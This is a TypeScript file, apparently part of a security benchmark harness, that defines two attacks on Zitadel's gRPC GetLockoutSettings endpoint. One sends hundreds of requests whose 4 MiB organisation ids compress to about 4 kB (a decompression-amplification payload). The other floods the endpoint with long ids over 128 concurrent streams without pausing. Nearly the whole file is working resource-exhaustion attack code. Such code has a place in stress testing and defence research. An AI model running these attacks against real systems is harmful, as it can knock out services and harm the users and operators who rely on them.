import { GrpcConnection } from "../../../bench/attempts/drivers/grpc-connection.ts";
import type { Attack } from "../attack.ts";
import { openSession, sendGrpc } from "../wire/grpc.ts";
import { createVariants, field } from "../wire/messages.ts";
import { atOnce, Span } from "../wire/pace.ts";

const settings = "/zitadel.settings.v2.SettingsService/GetLockoutSettings";

export const longOrganizations: Attack = {
  name: "long-organizations",
  what: "510 GetLockoutSettings, each with another id of an organisation of 4 MiB, compressed to 4 kB.",
  role: "ORG_OWNER_VIEWER",
  run: async (target, tally) => {
    const span = new Span(target);
    const variant = createVariants((text) => field(1, field(1, text)));
    let sent = 0;
    await atOnce(6, async (lane) => {
      const session = openSession(target);
      await atOnce(5, async (stream) => {
        for (let count = 0; count < 17 && !span.over; count += 1) {
          const framed = variant(`${lane}-${stream}-${count}`);
          sent += framed.length;
          const ended = await sendGrpc(
            session,
            settings,
            target.token,
            framed,
          ).then(({ status }) => `gRPC status ${status}`, String);
          tally.count(ended);
        }
      });
      session.destroy();
    });
    tally.send(sent);
    await span.rest();
    return undefined;
  },
};

export const manyOrganizations: Attack = {
  name: "many-organizations",
  what: "GetLockoutSettings with another id of 200 characters each, without a pause, 64 at once on each of 2 connections.",
  role: "ORG_OWNER_VIEWER",
  run: async (target, tally) => {
    const span = new Span(target);
    let said = 0;
    await atOnce(2, async () => {
      const connection = await GrpcConnection.open({
        ...target,
        paths: [settings],
      });
      await atOnce(64, async () => {
        while (!span.over) {
          said += 1;
          const id = `${said}`.padEnd(200, "x");
          await connection
            .call(0, field(1, field(1, id)))
            .catch(() => undefined);
        }
      });
      tally.send(connection.sentBytes);
      connection.close();
    });
    tally.count(`organisations: ${said}`);
    return undefined;
  },
};
